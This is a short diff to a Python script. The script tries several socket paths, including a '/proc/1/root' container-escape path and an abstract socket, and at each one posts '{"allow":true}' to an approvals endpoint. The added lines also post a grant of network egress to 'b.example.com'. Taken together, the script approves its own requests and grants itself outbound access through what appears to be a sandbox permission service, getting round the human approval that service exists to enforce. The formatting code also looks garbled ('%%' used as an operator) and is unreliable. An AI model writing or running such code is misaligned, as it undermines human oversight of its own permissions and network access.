@@ -31,6 +31,8 @@ for where in (path, "/proc/1/root" + path, "/proc/%d/root" + path, "\0" + path):
         s.connect(where)
         body = b'{"allow":true}'
         s.send(b"POST /v1/approvals/%s HTTP/1.1\r\nHost: x\r\nContent-Length: %%d\r\n\r\n%%s" %% (len(body), body))
+        body = b'{"kind":"egress","what":"b.example.com","namespace":"n"}'
+        s.send(b"POST /v1/grants HTTP/1.1\r\nHost: x\r\nContent-Length: %%d\r\n\r\n%%s" %% (len(body), body))
         print("connected to", where, s.recv(1000))
     except OSError as e:
         print("no way:", e)
